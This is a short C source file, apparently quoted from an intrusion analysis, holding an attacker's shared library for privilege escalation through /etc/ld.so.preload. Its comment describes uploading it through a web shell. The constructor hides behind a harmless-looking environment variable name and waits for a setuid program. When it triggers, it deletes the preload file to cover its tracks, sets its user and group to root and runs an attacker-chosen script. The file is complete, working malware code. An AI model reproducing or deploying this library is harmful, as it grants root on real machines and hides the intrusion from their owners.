/* The attacker's library (built before the capture, uploaded base64 through
 * the web shell). Listed in /etc/ld.so.preload it is loaded by every dynamic
 * program started while the file exists; it does nothing unless the marker
 * variable is set and the process runs with euid 0 (a setuid program started
 * by the attacker): then it removes the preload file at once, becomes root for
 * real and runs the script named by the marker, and the setuid program exits
 * before its main(). */
#include <stdlib.h>
#include <unistd.h>
#include <sys/types.h>

__attribute__((constructor)) static void cmp_init(void) {
    const char *s = getenv("XDG_CACHE_PROFILE");
    if (s == NULL || s[0] != '/' || geteuid() != 0)
        return;
    unlink("/etc/ld.so.preload");
    if (fork() == 0) {
        setsid();
        if (setgid(0) != 0 || setuid(0) != 0)
            _exit(1);
        unsetenv("XDG_CACHE_PROFILE");
        execl("/bin/sh", "sh", s, (char *)NULL);
        _exit(1);
    }
    _exit(0);
}
